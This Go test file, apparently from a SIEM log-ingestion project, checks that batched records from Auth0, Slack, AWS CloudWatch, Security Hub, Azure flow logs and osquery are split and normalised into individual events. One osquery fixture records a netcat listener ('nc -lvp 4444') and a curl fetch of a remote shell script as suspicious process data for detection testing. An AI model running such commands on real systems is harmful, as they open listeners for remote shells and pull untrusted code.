package pipelines

import (
	"testing"

	jsonfmt "github.com/vigilsiem/vigil/internal/parse/json"
)

// Records that carry many events, written from each vendor's documented
// delivery format: each is split as the pipeline splits it, and each part
// is selected by its pipeline and normalised as an event of its own.
func TestVendorContainersSplitPerEvent(t *testing.T) {
	type want struct {
		pipeline string
		fields   map[string]string
	}
	cases := []struct {
		name  string
		batch string
		want  []want
	}{
		{"Auth0 log stream webhook batch (JSON array)",
			`[{"log_id":"90020250311101522334455000000000000001","data":{"date":"2025-03-11T10:15:22.123Z","type":"fp","description":"Wrong email or password.","connection":"Username-Password-Authentication","client_id":"c1","client_name":"Portal","ip":"198.51.100.73","user_id":"auth0|1","user_name":"jdoe@example.com"}},` +
				`{"log_id":"90020250311101522334455000000000000002","data":{"date":"2025-03-11T10:15:30.000Z","type":"s","connection":"Username-Password-Authentication","client_id":"c1","client_name":"Portal","ip":"198.51.100.74","user_id":"auth0|1","user_name":"jdoe@example.com"}}]`,
			[]want{{"auth0.logs", map[string]string{"source.ip": "198.51.100.73", "event.outcome": "failure", "user.name": "jdoe@example.com"}},
				{"auth0.logs", map[string]string{"source.ip": "198.51.100.74", "event.outcome": "success"}}}},
		{"Slack Audit Logs API page",
			`{"entries":[{"id":"e1","date_create":1717490822,"action":"user_login","actor":{"type":"user","user":{"id":"W1","name":"Priya Raman","email":"priya@example.com"}},"entity":{"type":"user","user":{"id":"W1","name":"Priya Raman"}},"context":{"location":{"type":"enterprise","id":"E1"},"ua":"Slack/4.38","ip_address":"198.51.100.88","session_id":"1"}},` +
				`{"id":"e2","date_create":1717490900,"action":"user_logout","actor":{"type":"user","user":{"id":"W2","name":"Ana","email":"ana@example.com"}},"entity":{"type":"user","user":{"id":"W2","name":"Ana"}},"context":{"location":{"type":"enterprise","id":"E1"},"ua":"Slack/4.38","ip_address":"198.51.100.89","session_id":"2"}}],"response_metadata":{"next_cursor":""}}`,
			[]want{{"slack.audit", map[string]string{"event.action": "user_login", "source.ip": "198.51.100.88"}},
				{"slack.audit", map[string]string{"event.action": "user_logout", "source.ip": "198.51.100.89"}}}},
		{"CloudWatch Logs subscription: VPC flow logs",
			`{"messageType":"DATA_MESSAGE","owner":"123456789010","logGroup":"vpc-flow-logs","logStream":"eni-1235b8ca123456789-all","subscriptionFilters":["to-firehose"],"logEvents":[` +
				`{"id":"3831","timestamp":1418530010000,"message":"2 123456789010 eni-1235b8ca123456789 172.31.16.139 172.31.16.21 20641 22 6 20 4249 1418530010 1418530070 ACCEPT OK"},` +
				`{"id":"3832","timestamp":1418530010000,"message":"2 123456789010 eni-1235b8ca123456789 172.31.9.69 172.31.9.12 49761 3389 6 20 4249 1418530010 1418530070 REJECT OK"}]}`,
			[]want{{"aws.vpcflow", map[string]string{"source.ip": "172.31.16.139", "destination.port": "22", "event.outcome": "success"}},
				{"aws.vpcflow", map[string]string{"source.ip": "172.31.9.69", "destination.port": "3389", "event.outcome": "failure"}}}},
		{"CloudWatch Logs subscription: CloudTrail",
			`{"messageType":"DATA_MESSAGE","owner":"111122223333","logGroup":"aws-cloudtrail-logs","logStream":"111122223333_CloudTrail_us-east-1","subscriptionFilters":["all"],"logEvents":[` +
				`{"id":"1","timestamp":1715341067000,"message":"{\"eventVersion\":\"1.08\",\"userIdentity\":{\"type\":\"IAMUser\",\"principalId\":\"AIDA1\",\"arn\":\"arn:aws:iam::111122223333:user/Mateo\",\"accountId\":\"111122223333\",\"userName\":\"Mateo\"},\"eventTime\":\"2024-05-10T11:37:47Z\",\"eventSource\":\"signin.amazonaws.com\",\"eventName\":\"ConsoleLogin\",\"awsRegion\":\"us-east-1\",\"sourceIPAddress\":\"198.51.100.17\",\"userAgent\":\"Mozilla/5.0\",\"responseElements\":{\"ConsoleLogin\":\"Failure\"},\"eventID\":\"id1\",\"eventType\":\"AwsConsoleSignIn\",\"recipientAccountId\":\"111122223333\"}"},` +
				`{"id":"2","timestamp":1715341068000,"message":"{\"eventVersion\":\"1.08\",\"userIdentity\":{\"type\":\"IAMUser\",\"principalId\":\"AIDA1\",\"arn\":\"arn:aws:iam::111122223333:user/Mateo\",\"accountId\":\"111122223333\",\"userName\":\"Mateo\"},\"eventTime\":\"2024-05-10T11:38:00Z\",\"eventSource\":\"iam.amazonaws.com\",\"eventName\":\"CreateUser\",\"awsRegion\":\"us-east-1\",\"sourceIPAddress\":\"198.51.100.18\",\"userAgent\":\"aws-cli/2\",\"requestParameters\":{\"userName\":\"eve\"},\"eventID\":\"id2\",\"eventType\":\"AwsApiCall\",\"recipientAccountId\":\"111122223333\"}"}]}`,
			[]want{{"aws.cloudtrail", map[string]string{"event.action": "ConsoleLogin", "source.ip": "198.51.100.17", "@timestamp": "2024-05-10T11:37:47Z"}},
				{"aws.cloudtrail", map[string]string{"event.action": "CreateUser", "source.ip": "198.51.100.18"}}}},
		{"Security Hub EventBridge event with two findings",
			`{"version":"0","id":"5b1c","detail-type":"Security Hub Findings - Imported","source":"aws.securityhub","account":"444455556666","time":"2025-06-03T10:15:42Z","region":"eu-west-1","resources":["r1","r2"],"detail":{"findings":[` +
				`{"SchemaVersion":"2018-10-08","Id":"f1","ProductArn":"arn:aws:securityhub:eu-west-1::product/aws/securityhub","GeneratorId":"security-control/S3.8","AwsAccountId":"444455556666","Types":["Software and Configuration Checks"],"CreatedAt":"2025-05-30T08:00:12.001Z","UpdatedAt":"2025-06-03T10:15:20.420Z","Severity":{"Label":"HIGH","Normalized":70},"Title":"S3 general purpose buckets should block public access","Compliance":{"Status":"FAILED","SecurityControlId":"S3.8"},"Resources":[{"Type":"AwsS3Bucket","Id":"arn:aws:s3:::finance"}],"Region":"eu-west-1","RecordState":"ACTIVE","Workflow":{"Status":"NEW"}},` +
				`{"SchemaVersion":"2018-10-08","Id":"f2","ProductArn":"arn:aws:securityhub:eu-west-1::product/aws/securityhub","GeneratorId":"security-control/IAM.6","AwsAccountId":"444455556666","Types":["Software and Configuration Checks"],"CreatedAt":"2025-05-30T08:00:12.001Z","UpdatedAt":"2025-06-03T10:15:21.000Z","Severity":{"Label":"CRITICAL","Normalized":90},"Title":"Hardware MFA should be enabled for the root user","Compliance":{"Status":"FAILED","SecurityControlId":"IAM.6"},"Resources":[{"Type":"AwsAccount","Id":"AWS::::Account:444455556666"}],"Region":"eu-west-1","RecordState":"ACTIVE","Workflow":{"Status":"NEW"}}]}}`,
			[]want{{"aws.securityhub", map[string]string{"rule.id": "S3.8", "aws.securityhub.severity.label": "HIGH", "event.severity": "70"}},
				{"aws.securityhub", map[string]string{"rule.id": "IAM.6", "aws.securityhub.severity.label": "CRITICAL", "event.severity": "90"}}}},
		{"Azure NSG flow log record with three tuples under two rules",
			`{"records":[{"time":"2025-03-02T07:41:12.4180000Z","systemId":"s1","macAddress":"000D3A1B2C3D","category":"NetworkSecurityGroupFlowEvent","resourceId":"/SUBSCRIPTIONS/0A1B/RESOURCEGROUPS/RG-WEB/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/NSG-WEB","operationName":"NetworkSecurityGroupFlowEvents","properties":{"Version":2,"flows":[` +
				`{"rule":"DefaultRule_DenyAllInBound","flows":[{"mac":"000D3A1B2C3D","flowTuples":["1740901270,198.51.100.45,10.1.0.4,51177,3389,T,I,D,B,,,,","1740901271,198.51.100.46,10.1.0.4,40022,22,T,I,D,B,,,,"]}]},` +
				`{"rule":"UserRule_AllowWebOut","flows":[{"mac":"000D3A1B2C3D","flowTuples":["1740901490,10.1.0.4,203.0.113.10,50321,443,T,O,A,E,12,4310,10,18840"]}]}]}}]}`,
			[]want{{"azure.flowlog", map[string]string{"source.ip": "198.51.100.45", "destination.port": "3389", "rule.name": "DefaultRule_DenyAllInBound"}},
				{"azure.flowlog", map[string]string{"source.ip": "198.51.100.46", "destination.port": "22", "rule.name": "DefaultRule_DenyAllInBound"}},
				{"azure.flowlog", map[string]string{"source.ip": "10.1.0.4", "destination.ip": "203.0.113.10", "rule.name": "UserRule_AllowWebOut"}}}},
		{"osquery snapshot with two rows",
			`{"name":"logged_in_users","hostIdentifier":"lnx-web-03","calendarTime":"Wed May 13 12:02:00 2026 UTC","unixTime":1778673720,"epoch":0,"counter":0,"numerics":false,"snapshot":[` +
				`{"type":"user","user":"root","tty":"pts/0","host":"198.51.100.23","time":"1778673000","pid":"22001"},` +
				`{"type":"user","user":"alice","tty":"pts/1","host":"198.51.100.24","time":"1778673100","pid":"22002"}],"action":"snapshot"}`,
			[]want{{"osquery.result", map[string]string{"user.name": "root", "source.ip": "198.51.100.23", "host.name": "lnx-web-03"}},
				{"osquery.result", map[string]string{"user.name": "alice", "source.ip": "198.51.100.24", "host.name": "lnx-web-03"}}}},
		{"osquery batch (event format batch): diffResults with added and removed rows",
			`{"diffResults":{"added":[` +
				`{"pid":"31337","name":"nc","path":"/usr/bin/nc","cmdline":"nc -lvp 4444","parent":"1200","uid":"1000"},` +
				`{"pid":"31338","name":"curl","path":"/usr/bin/curl","cmdline":"curl -s http://203.0.113.5/x.sh","parent":"1200","uid":"1000"}],` +
				`"removed":[{"pid":"22001","name":"sshd","path":"/usr/sbin/sshd","cmdline":"sshd: alice","parent":"1","uid":"0"}]},` +
				`"name":"pack_incident-response_processes","hostIdentifier":"lnx-web-03","calendarTime":"Wed May 13 12:02:00 2026 UTC","unixTime":1778673720,"epoch":0,"counter":4,"numerics":false,"decorations":{"host_uuid":"u-1","username":"alice"}}`,
			[]want{{"osquery.result", map[string]string{"process.name": "nc", "process.pid": "31337", "osquery.action": "added", "host.name": "lnx-web-03", "@timestamp": "2026-05-13T12:02:00Z"}},
				{"osquery.result", map[string]string{"process.name": "curl", "process.command_line": "curl -s http://203.0.113.5/x.sh", "osquery.action": "added"}},
				{"osquery.result", map[string]string{"process.name": "sshd", "process.pid": "22001", "osquery.action": "removed", "host.id": "u-1"}}}},
		{"Azure virtual network flow log record (flowRecords) with three tuples in two flow groups",
			`{"records":[{"time":"2025-03-02T08:00:05.1230000Z","flowLogGUID":"66aa66aa-bbbb-cccc-dddd-111122223333","macAddress":"00224871C205","category":"FlowLogFlowEvent","flowLogResourceID":"/SUBSCRIPTIONS/S1/RESOURCEGROUPS/NETWORKWATCHERRG/PROVIDERS/MICROSOFT.NETWORK/NETWORKWATCHERS/NETWORKWATCHER_WESTEUROPE/FLOWLOGS/VNETFLOWLOG-PROD","targetResourceID":"/subscriptions/s1/resourceGroups/rg-prod/providers/Microsoft.Network/virtualNetworks/vnet-prod","operationName":"FlowLogFlowEvent","flowLogVersion":4,"flowRecords":{"flows":[` +
				`{"aclID":"9a8b7c6d-0000-1111-2222-333344445555","flowGroups":[` +
				`{"rule":"DefaultRule_AllowInternetOutBound","flowTuples":["1740902403599,10.2.0.6,192.0.2.180,23956,443,6,O,B,NX,0,0,0,0","1740902403612,10.2.0.6,192.0.2.181,23957,443,6,O,E,NX,7,1508,9,4612"]},` +
				`{"rule":"BlockHighRiskTCPPortsFromInternet","flowTuples":["1740902460000,203.0.113.99,10.2.0.7,61000,445,6,I,D,NX,0,0,0,0"]}]}]}}]}`,
			[]want{{"azure.flowlog", map[string]string{"source.ip": "10.2.0.6", "destination.ip": "192.0.2.180", "destination.port": "443", "rule.name": "DefaultRule_AllowInternetOutBound"}},
				{"azure.flowlog", map[string]string{"destination.ip": "192.0.2.181", "source.port": "23957", "rule.name": "DefaultRule_AllowInternetOutBound"}},
				{"azure.flowlog", map[string]string{"source.ip": "203.0.113.99", "destination.port": "445", "rule.name": "BlockHighRiskTCPPortsFromInternet"}}}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			parts, isBatch, err := jsonfmt.Split([]byte(c.batch), nil)
			if err != nil || !isBatch || len(parts) != len(c.want) {
				t.Fatalf("Split: %d parts, batch %v, err %v", len(parts), isBatch, err)
			}
			for i, p := range parts {
				e, name := viaPipelines(t, string(p))
				if name != c.want[i].pipeline {
					t.Errorf("element %d: pipeline %q, want %q\n%s", i, name, c.want[i].pipeline, p)
					continue
				}
				got := fieldTexts(e)
				for k, v := range c.want[i].fields {
					if got[k] != v {
						t.Errorf("element %d: %s = %q, want %q", i, k, got[k], v)
					}
				}
			}
		})
	}
}
